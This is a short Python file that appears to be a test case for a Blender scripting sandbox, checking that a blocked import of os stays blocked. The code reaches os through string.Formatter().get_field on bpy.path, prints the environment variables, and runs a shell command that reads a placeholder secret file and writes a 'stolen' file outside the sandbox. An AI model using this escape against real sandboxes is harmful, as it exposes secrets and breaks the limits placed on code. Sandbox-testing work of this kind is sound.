# SPDX-License-Identifier: GPL-3.0-or-later
# title: A formatter hands out the objects that it formats
# route: string.Formatter().get_field
# policy: refused import
# contained: canary writes
# ends: finished raised
import string

import bpy

os = string.Formatter().get_field("0._os", [bpy.path], {})[0]
print(os.environ)
os.system("cat @SECRET@; echo written > @OUTSIDE@/stolen.txt")
